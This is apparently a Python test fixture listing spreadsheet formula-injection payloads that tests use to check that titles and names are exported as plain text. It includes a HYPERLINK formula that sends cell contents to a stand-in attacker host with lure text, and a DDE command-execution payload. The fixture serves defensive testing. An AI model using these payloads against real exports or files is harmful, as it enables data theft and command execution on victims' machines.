"""Text an outside probe put where enterprises write (titles, names): each must reach a spreadsheet as text.

Shared by the writer's tests (``tests/core/test_exports.py``) and the
ledger's (``tests/appeals/test_api_ledger.py``), which files them as titles.
"""

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2&C2,"点击查看附件")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1",
    "=SUM(A1:A2)",
    "http://evil.example/steal",
    "mailto:a@evil.example",
    "0123",
    "1e5",
]
